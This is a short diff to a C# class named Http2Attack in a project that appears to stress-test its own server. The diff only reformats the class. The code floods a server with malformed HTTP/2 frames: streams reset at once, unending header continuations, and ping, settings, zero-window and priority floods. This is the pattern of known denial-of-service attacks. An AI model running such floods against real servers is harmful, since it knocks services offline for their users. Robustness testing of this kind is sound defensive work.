@@ -4,7 +4,10 @@ using PlantOps.Attack.Wire;
 
 namespace PlantOps.Attack.Attacks;
 
-/// <summary>HTTP/2 as it must not be used: streams that are reset at once, headers without an end, pings, settings, windows of nothing.</summary>
+/// <summary>
+/// HTTP/2 as it must not be used: streams that are reset at once, headers without an end, pings, settings, windows of
+/// nothing.
+/// </summary>
 internal sealed class Http2Attack : IAttack
 {
     private const int Data = 0;
@@ -27,11 +30,13 @@ internal sealed class Http2Attack : IAttack
     {
         assault.Tally.MustReach("connections", "frames sent", "bytes received");
         var count = assault.Pick(1_500, 11_000);
-        await FloodAsync(assault, count, i => [.. Frame(Headers, 5, 1 + (2 * i), Get), .. Frame(Reset, 0, 1 + (2 * i), [0, 0, 0, 8])]);
+        await FloodAsync(assault, count, i => [.. Frame(Headers, 5, 1 + (2 * i), Get),
+            .. Frame(Reset, 0, 1 + (2 * i), [0, 0, 0, 8])]);
         await FloodAsync(assault, count, i => Frame(i == 0 ? Headers : Continuation, 0, 1, i == 0 ? Get : Literal(i)));
         await FloodAsync(assault, 2 * count, i => Frame(PingFrame, 0, 0, BitConverter.GetBytes((long)i)));
         await FloodAsync(assault, count, _ => Frame(Settings, 0, 0, [0, 4, 0, 0, 0, 0]));
-        await FloodAsync(assault, count, i => [.. Frame(Headers, 4, 1 + (2 * i), Get), .. Frame(Window, 0, 1 + (2 * i), [0, 0, 0, 0])]);
+        await FloodAsync(assault, count, i => [.. Frame(Headers, 4, 1 + (2 * i), Get),
+            .. Frame(Window, 0, 1 + (2 * i), [0, 0, 0, 0])]);
         await FloodAsync(assault, count, i => Frame(Priority, 0, 1 + (2 * i), [0x80, 0, 0, 1, 255]));
         await FloodAsync(assault, count, i => Frame(Data, i % 2, 1, new byte[i % 100]));
         await FloodAsync(assault, count, _ => Noise(assault.Random));
